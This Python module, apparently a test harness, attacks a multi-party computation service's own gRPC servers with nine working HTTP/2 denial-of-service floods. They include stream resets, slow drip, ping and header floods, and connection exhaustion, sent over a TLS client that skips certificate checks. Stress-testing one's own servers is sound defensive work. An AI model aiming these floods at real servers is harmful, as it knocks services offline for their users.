"""What somebody does who wants a process to stop serving: HTTP/2 by hand over TLS, and floods of it.

As a program, it attacks servers for as long as it is left running:

    python attackers.py '{"targets": [["127.0.0.1", 5001, "party-1"]], "files": FOLDER, "attacks": [...]}'
"""

import json
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path

__all__ = ["ATTACKS", "Http2", "Target", "attackers", "tls_context"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1


class Target:
    """A server that is attacked.

    Args:
        host: where it is.
        port: where it listens.
        files: folder with authority.pem, and certificate.pem and key.pem of who attacks; None for a stranger.
        service: what it is, in the names of its methods.
    """

    def __init__(self, host: str, port: int, files: Path | None, service: str = "ComputeParty") -> None:
        self.host, self.port, self.files, self.service = host, port, files, service
        self.method = {"ComputeParty": "Upload", "Coordinator": "Attend", "Dealer": "Deal"}[service]

    def connect(self) -> "Http2":
        """Open a connection as a member."""
        return Http2(self)


def tls_context(files: Path | None) -> ssl.SSLContext:
    """Return a TLS client that checks nothing and shows the certificate in a folder, if any."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if files is not None:
        context.load_cert_chain(files / "certificate.pem", files / "key.pem")
    return context


def _literal(name: str, value: str) -> bytes:
    """Write one header as HPACK's literal without indexing, its texts not compressed."""
    return b"\0" + _text(name.encode()) + _text(value.encode())


def _text(text: bytes) -> bytes:
    length, head = len(text), bytearray()
    if length < 0x7F:
        head.append(length)
    else:
        head.append(0x7F)
        length -= 0x7F
        while length > 0x7F:
            head.append(length & 0x7F | 0x80)
            length >>= 7
        head.append(length)
    return bytes(head) + text


class Http2:
    """A connection that sends what it is told to, whether the protocol allows it or not."""

    def __init__(self, target: Target) -> None:
        plain = socket.create_connection((target.host, target.port), timeout=10)
        try:
            self.socket = tls_context(target.files).wrap_socket(plain)
        except OSError:
            plain.close()
            raise
        self._next = 1
        self._buffer = b""
        self._host = f"{target.host}:{target.port}"
        self._prefix = f"/mpcdp.pb.{target.service}/"
        try:
            self.socket.sendall(_PREFACE)
            self.frame(_SETTINGS, 0, 0, b"")
        except OSError:
            self.close()
            raise

    def __enter__(self) -> "Http2":
        return self

    def __exit__(self, *exception: object) -> None:
        self.close()

    def close(self) -> None:
        """Hang up."""
        with suppress(OSError):
            self.socket.close()

    def frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        """Send one frame."""
        self.socket.sendall(struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload)

    def call(self, method: str, headers: dict[str, str] | None = None, *, path: str | None = None) -> int:
        """Begin a call and return its stream."""
        stream, self._next = self._next, self._next + 2
        fields = {
            ":method": "POST",
            ":scheme": "https",
            ":path": path or self._prefix + method,
            ":authority": self._host,
            "content-type": "application/grpc",
            "te": "trailers",
            "grpc-timeout": "60S",
            **(headers or {}),
        }
        block = b"".join(_literal(name, value) for name, value in fields.items())
        self.frame(_HEADERS, _END_HEADERS, stream, block)
        return stream

    def data(self, stream: int, content: bytes, *, end: bool = False) -> None:
        """Send bytes of a call."""
        self.frame(_DATA, _END_STREAM if end else 0, stream, content)

    def message(self, stream: int, content: bytes, *, compressed: bool = False, end: bool = False) -> None:
        """Send a whole gRPC message, in frames of the usual size."""
        whole = struct.pack(">BI", compressed, len(content)) + content
        for start in range(0, len(whole), 1 << 14):
            self.data(stream, whole[start : start + (1 << 14)], end=end and start + (1 << 14) >= len(whole))

    def reset(self, stream: int) -> None:
        """Cancel a call."""
        self.frame(_RESET, 0, stream, struct.pack(">I", 8))

    def ping(self) -> None:
        """Ask for a sign of life."""
        self.frame(_PING, 0, 0, bytes(8))

    def frames(self, seconds: float) -> Iterator[tuple[int, int, int, bytes]]:
        """Yield (kind, flags, stream, payload) of what arrives until the server hangs up or the time is over.

        The server's own pings are answered, so that nobody is taken for frozen.
        """
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            while (frame := self._frame()) is not None:
                if frame[:2] == (_PING, 0):
                    self.frame(_PING, _ACK, 0, frame[3])
                yield frame
            self.socket.settimeout(left)
            try:
                received = self.socket.recv(1 << 16)
            except TimeoutError:
                return
            except OSError:
                received = b""
            finally:
                self.socket.settimeout(10)
            if not received:
                yield _GOAWAY, 0, 0, b""
                return
            self._buffer += received

    def _frame(self) -> tuple[int, int, int, bytes] | None:
        """Take a whole frame out of what has arrived."""
        if len(self._buffer) < 9 or len(self._buffer) < (whole := 9 + int.from_bytes(self._buffer[:3], "big")):
            return None
        kind, flags, stream = struct.unpack(">BBI", self._buffer[3:9])
        content, self._buffer = self._buffer[9:whole], self._buffer[whole:]
        return kind, flags, stream & 0x7FFFFFFF, content

    def drain(self) -> None:
        """Take in what has arrived, so that nobody waits for us."""
        for _ in self.frames(0.001):
            pass

    def ends(self, seconds: float) -> bool:
        """Whether the server breaks the connection off within a time."""
        return any(kind == _GOAWAY for kind, *_ in self.frames(seconds))


# -- attacks: each runs until it is told to end, and starts again whatever happens to it -------------------------------


def _silent_calls(target: Target, over: threading.Event) -> None:
    """Open all the calls one may, and say nothing."""
    with target.connect() as connection:
        for _ in range(8):
            connection.call(target.method)
        while not over.wait(0.1):
            connection.drain()


def _drip(target: Target, over: threading.Event) -> None:
    """Send a byte of a message every tenth of a second."""
    with target.connect() as connection:
        stream = connection.call(target.method)
        connection.data(stream, struct.pack(">BI", 0, 1 << 20))
        while not over.wait(0.1):
            connection.data(stream, b"x")
            connection.drain()


def _full_rate(target: Target, over: threading.Event) -> None:
    """Send rubbish as fast as possible, for ever."""
    with target.connect() as connection:
        while not over.is_set():
            for _ in range(8):
                connection.message(connection.call(target.method), bytes(1 << 14), end=True)
            connection.drain()


def _many_connections(target: Target, over: threading.Event) -> None:
    """Keep two hundred connections with a call each."""
    connections: list[Http2] = []
    try:
        while not over.wait(0.01):
            if len(connections) < 200:
                connections.append(target.connect())
                connections[-1].call(target.method)
    finally:
        for connection in connections:
            connection.close()


def _resets(target: Target, over: threading.Event) -> None:
    """Begin and cancel calls as fast as possible."""
    with target.connect() as connection:
        while not over.is_set():
            for _ in range(50):
                connection.reset(connection.call(target.method))
            connection.drain()


def _pings(target: Target, over: threading.Event) -> None:
    """Ask for signs of life as fast as possible."""
    with target.connect() as connection:
        while not over.is_set():
            connection.ping()


def _large_headers(target: Target, over: threading.Event) -> None:
    """Send headers of a megabyte's length in pieces that the protocol allows."""
    with target.connect() as connection:
        while not over.wait(0.01):
            connection.call(target.method, {f"x-{number}": "y" * 1000 for number in range(15)})
            connection.drain()


def _strangers(target: Target, over: threading.Event) -> None:
    """Connect without a certificate, as fast as possible."""
    context = tls_context(None)
    while not over.is_set():
        with (
            suppress(OSError),
            socket.create_connection((target.host, target.port), timeout=5) as plain,
            context.wrap_socket(plain) as connection,
        ):
            connection.sendall(_PREFACE)
            connection.recv(100)


def _mute_strangers(target: Target, over: threading.Event) -> None:
    """Keep three hundred connections on which nothing is ever said."""
    opened: list[socket.socket] = []
    try:
        while not over.wait(0.01):
            opened.append(socket.create_connection((target.host, target.port), timeout=5))
            if len(opened) > 300:
                opened.pop(0).close()
    finally:
        for connection in opened:
            connection.close()


ATTACKS: dict[str, Callable[[Target, threading.Event], None]] = {
    "silent calls": _silent_calls,
    "drip": _drip,
    "full rate": _full_rate,
    "many connections": _many_connections,
    "resets": _resets,
    "pings": _pings,
    "large headers": _large_headers,
    "strangers": _strangers,
    "mute strangers": _mute_strangers,
}


def _again(attack: Callable[[Target, threading.Event], None], target: Target, over: threading.Event) -> None:
    while not over.wait(0.05):
        with suppress(OSError, ValueError):
            attack(target, over)


@contextmanager
def attackers(
    targets: Sequence[tuple[str, int, str]], files: Path, attacks: Sequence[str] = tuple(ATTACKS)
) -> Iterator[None]:
    """Let attacks run in a process of their own.

    Args:
        targets: host, port and service of each server.
        files: credentials of the member who attacks.
        attacks: their names.
    """
    arguments = json.dumps({"targets": targets, "files": str(files), "attacks": attacks})
    command = [sys.executable, __file__, arguments]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"attacking\n"
        try:
            yield
        finally:
            process.kill()


def main(arguments: str) -> None:
    """Run every attack on every target until standard input ends."""
    given = json.loads(arguments)
    over = threading.Event()
    targets = [Target(host, port, Path(given["files"]), service) for host, port, service in given["targets"]]
    threads = [
        threading.Thread(target=_again, args=(ATTACKS[name], target, over), daemon=True)
        for name in given["attacks"]
        for target in targets
    ]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)  # noqa: T201 (told to the test)
    sys.stdin.read()
    over.set()


if __name__ == "__main__":
    main(sys.argv[1])
